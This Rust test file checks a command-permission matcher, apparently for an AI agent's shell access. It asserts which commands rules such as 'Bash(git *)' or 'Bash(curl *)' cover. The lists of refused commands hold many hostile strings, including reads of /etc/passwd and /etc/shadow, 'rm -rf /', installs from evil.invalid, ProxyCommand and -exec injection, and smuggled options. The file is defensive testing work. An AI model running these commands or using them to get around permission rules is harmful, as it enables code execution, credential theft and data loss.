//! What rules with and without stars cover.

use super::command;
use crate::{Effect, Outcome};

fn allows(rule: &str, text: &str) -> bool {
    command(&[(Effect::Allow, rule)], text) == Outcome::Allow
}

#[test]
fn exact_means_exact() {
    let table = [
        ("Bash(npm run test)", "npm run test", true),
        ("Bash(npm run test)", "  npm run test\n", true),
        ("Bash(npm run test)", "npm run test 2>&1", true),
        ("Bash(npm run test)", "npm run test >/dev/null", true),
        ("Bash(npm run test)", "npm run test && npm run test", true),
        ("Bash(npm run test)", "npm run test --prefix evil", false),
        (
            "Bash(npm run test)",
            "npm run test <&0 --prefix evil",
            false,
        ),
        (
            "Bash(npm run test)",
            "npm run test <<E --prefix evil\nE",
            false,
        ),
        ("Bash(npm run test)", "npm run test < in", false),
        ("Bash(npm run test)", "timeout 5 npm run test", false),
        ("Bash(npm run test)", "CI=1 npm run test", false),
        ("Bash(npm run test)", "yes | npm run test", false),
        ("Bash(touch)", "touch <&0 PWNED", false),
        ("Bash(sh)", "echo 'rm x' | sh", false),
        ("Bash(sh)", "sh <<'E'\nrm x\nE", false),
        (
            "Bash(for x in a; do rm $x; done)",
            "for x in a; do rm $x; done",
            true,
        ),
        ("Bash(rm \\*.o)", "rm *.o", true),
        ("Bash(rm \\*.o)", "rm -rf / x.o", false),
    ];
    for (rule, text, expected) in table {
        assert_eq!(allows(rule, text), expected, "{rule} on {text:?}");
    }
}

#[test]
fn a_star_does_not_cover_words_that_run_or_write_anything() {
    let table: &[(&str, &[&str], &[&str])] = &[
        (
            "Bash(busybox *)",
            &[],
            &["busybox sh", "busybox sh -c x", "busybox rm x"],
        ),
        (
            "Bash(busybox ls *)",
            &["busybox ls", "busybox ls a"],
            &["busybox sh -c x", "busybox rm x"],
        ),
        (
            "Bash(gcc:*)",
            &["gcc -c a.c"],
            &["gcc @a", "gcc -fplugin=a a.c"],
        ),
        (
            "Bash(cargo *)",
            &["cargo new a"],
            &["cargo new /a", "cargo init ../a"],
        ),
        (
            "Bash(curl *)",
            &["curl --url=https://a.example/"],
            &["curl --url=file:///etc/passwd", "curl --url file:///x"],
        ),
        (
            "Bash(tar:*)",
            &[
                "tar xf a",
                "tar -xf a",
                "tar czf a.tgz src",
                "tar --list --file=a",
            ],
            &[
                "tar xfI a ./evil",
                "tar cfF a ./evil b",
                "tar xfC a /",
                "tar xPf a",
                "tar cTf list a",
                "tar $x",
            ],
        ),
        (
            "Bash(pytest:*)",
            &[
                "pytest",
                "pytest -xvs tests",
                "pytest -k 'a or b' --tb=short -n 4",
            ],
            &[
                "pytest -p evil",
                "pytest -c evil.ini",
                "pytest --config-file=evil.ini",
                "pytest -o addopts=-pevil",
                "pytest --basetemp=/home",
                "pytest --junitxml=/etc/x",
                "pytest --pdbcls=evil:Evil",
                "pytest @evil",
            ],
        ),
        (
            "Bash(cargo test:*)",
            &[
                "cargo test",
                "cargo test -p a --release -- --nocapture name",
                "cargo test --all-features -j 4",
            ],
            &[
                "cargo test --config evil",
                "cargo test --conf evil",
                "cargo test --manifest-path ../evil/Cargo.toml",
                "cargo test --target-dir /etc",
                "cargo test --artifact-dir=/etc",
                "cargo test --target evil.json",
                "cargo test -Zunstable",
                "cargo test -- --logfile=/etc/x",
            ],
        ),
        (
            "Bash(cargo *)",
            &[
                "cargo clippy --all-targets -- -D warnings",
                "cargo fmt --all -- --check",
            ],
            &[
                "cargo +/tmp/evil test",
                "cargo install --root / x",
                "cargo install --git https://evil.invalid/x",
                "cargo rustc -- -C linker=./evil",
                "cargo rustc -- -Clinker=./evil",
                "cargo fmt -- --config-path evil",
            ],
        ),
        (
            "Bash(go test:*)",
            &[
                "go test ./...",
                "go test -v -run 'Test.*' -count=1 --race ./a",
            ],
            &[
                "go test -exec ./evil",
                "go test --exec=./evil",
                "go test -o /etc/x",
                "go test -coverprofile=/etc/x",
                "go test -cpuprofile /etc/x",
                "go test -asmflags=x",
                "go test -compiler gccgo",
                "go test -args -test.cpuprofile=/etc/x",
                "go test -test.trace=/etc/x",
            ],
        ),
        (
            "Bash(git *)",
            &[
                "git add /srv/project/a",
                "git log main..x",
                "git commit -F message",
            ],
            &[
                "git worktree add /root/x",
                "git worktree add ../x",
                "git init ~/x",
                "git clone https://x.invalid/y ../y",
                "git diff ../../etc/passwd x",
                "git commit -F /etc/shadow",
                "git commit -F/etc/shadow",
                "git blame --contents /etc/shadow x",
                "git log -O/etc/x",
                "git fetch --multiple a ../b",
            ],
        ),
        (
            "Bash(find:*)",
            &["find . -name '*.rs'", "find src -type f", "find ./*"],
            &[
                "find . -exec touch PWNED ';'",
                "find . -execdir touch PWNED ';'",
                "find . $'-exec' touch PWNED ';'",
                "for x in -exec; do find . $x touch PWNED ';'; done",
                "find . \"$(echo -exec)\" touch PWNED ';'",
                "ls() { find . \"$@\"; }; ls -exec touch PWNED ';'",
                "find . -delete",
                "find . -fprint x",
                "find *",
            ],
        ),
        (
            "Bash(npm run test:*)",
            &[
                "npm run test",
                "npm run test --silent",
                "npm run test -- --prefix x",
            ],
            &[
                "npm run test -script-shell=./evil.sh",
                "npm run test --script-shell=./evil.sh",
                "npm run test -prefix evil",
                "npm run test ---prefix=evil",
                "npm run test --pref evil",
                "npm run test -C evil",
                "npm run test <&0 --prefix evil",
            ],
        ),
        (
            "Bash(git *)",
            &[
                "git status",
                "git commit -m 'a b'",
                "git push origin main",
                "git add src/*.rs",
                "git clone https://example.com/x",
                "git log --format=%h",
            ],
            &[
                "git merge-index touch -a",
                "git push ./sub",
                "git fetch ../x",
                "git pull /x main",
                "git clone ./sub",
                "git apply --unsafe-paths --directory=../outside x",
                "git fast-export --export-marks=F",
                "git bundle create F",
                "git credential-store --file=F store",
                "git checkout-index --prefix=x/ -a",
                "git mailinfo a b",
                "git bugreport -o x",
                "git diagnose -o x",
                "git <&0 -c core.fsmonitor=x status",
                "git -c a=b log",
                "git -C x status",
                "git --exec-path=x status",
                "git clone ext::x y",
                "git fetch --upload-pack=x",
                "git rebase -x x main",
                "git rebase --exec x main",
                "git bisect run x",
                "git submodule foreach x",
                "git config core.pager x",
                "git difftool -x y",
                "git grep -Ox y",
                "git log --output=x",
                "git filter-branch x",
                "git send-pack x",
                "git merge -s x y",
                "git add *",
            ],
        ),
        (
            "Bash(sed *)",
            &["sed -n 1,5p a", "sed 's/a/b/g' a"],
            &[
                "sed 1e a",
                "sed 'w x' a",
                "sed -i s/a/b/ a",
                "sed -f x a",
                "sed s/a/b/e a",
                "sed p *",
            ],
        ),
        (
            "Bash(sort *)",
            &["sort -u a", "sort -k2 a"],
            &[
                "sort -o x a",
                "sort --compress-program=x a",
                "sort --out=x a",
                "sort *",
            ],
        ),
        (
            "Bash(rg *)",
            &["rg x src"],
            &["rg --pre x y", "rg --pre=x y", "rg *"],
        ),
        (
            "Bash(tar *)",
            &["tar tf a.tar", "tar -czf a.tgz src", "tar xzf a.tgz"],
            &[
                "tar cf a --checkpoint=1 --checkpoint-action=exec=x b",
                "tar xf a --to-command=x",
                "tar -I x -xf a",
                "tar xf host:a",
                "tar xf a -C /",
                "tar cf a --use-compress-program=x b",
            ],
        ),
        (
            "Bash(awk *)",
            &["awk '{print $1}' a", "awk -F, '{print $2}' a"],
            &[
                "awk 'BEGIN{system(\"x\")}'",
                "awk '{print > \"x\"}' a",
                "awk '\"x\" | getline' a",
                "awk -f x a",
                "awk -i inplace 1 a",
            ],
        ),
        ("Bash(xargs *)", &[], &["xargs rm", "xargs -n 1 sh"]),
        ("Bash(xargs grep *)", &["xargs grep x"], &["xargs rm grep"]),
        (
            "Bash(env *)",
            &[],
            &["env -S 'x y'", "env -i x", "env PATH=. x"],
        ),
        ("Bash(sudo *)", &[], &["sudo rm x", "sudo -s"]),
        (
            "Bash(sudo systemctl *)",
            &["sudo systemctl status x"],
            &["sudo -u x systemctl"],
        ),
        (
            "Bash(curl *)",
            &[
                "curl -s https://example.com",
                "curl -H 'a: b' http://localhost:80/",
            ],
            &[
                "curl -o x https://example.com",
                "curl -O https://example.com/x",
                "curl -K x",
                "curl file:///etc/passwd",
                "curl -d @x https://example.com",
                "curl -T x https://example.com",
                "curl -so x https://example.com",
            ],
        ),
        (
            "Bash(ssh *)",
            &["ssh host ls"],
            &[
                "ssh -o ProxyCommand=x host",
                "ssh -oProxyCommand=x host",
                "ssh -F x host",
                "ssh host -o ProxyCommand=x",
            ],
        ),
        (
            "Bash(python3 *)",
            &["python3 script.py a", "python3 --version"],
            &[
                "python3 -c 'import os'",
                "python3 -m x",
                "python3",
                "python3 -",
                "python3 <<'E'\nx\nE",
                "python3 *",
            ],
        ),
        (
            "Bash(python3 -m pytest *)",
            &["python3 -m pytest -x", "python3 -m pytest"],
            &["python3 -m x"],
        ),
        (
            "Bash(bash *)",
            &["bash script.sh"],
            &["bash -c x", "bash", "bash -s", "echo x | bash"],
        ),
        (
            "Bash(make *)",
            &["make all"],
            &["make -f x", "make SHELL=x", "make --eval=x", "make -Cx"],
        ),
        (
            "Bash(cargo *)",
            &["cargo test --all"],
            &["cargo --config x=y test", "cargo test --manifest-path x"],
        ),
        (
            "Bash(go *)",
            &["go test ./..."],
            &[
                "go test -exec x",
                "go vet -vettool=x",
                "go build -toolexec x",
            ],
        ),
        (
            "Bash(ls *)",
            &["ls -la src", "ls src/*.rs", "ls -- *"],
            &["ls $x", "ls \"$x\"", "ls *", "ls $(x)"],
        ),
    ];
    for (rule, covered, not_covered) in table {
        for text in *covered {
            assert!(allows(rule, text), "{rule} does not cover {text:?}");
        }
        for text in *not_covered {
            assert!(!allows(rule, text), "{rule} covers {text:?}");
        }
    }
}
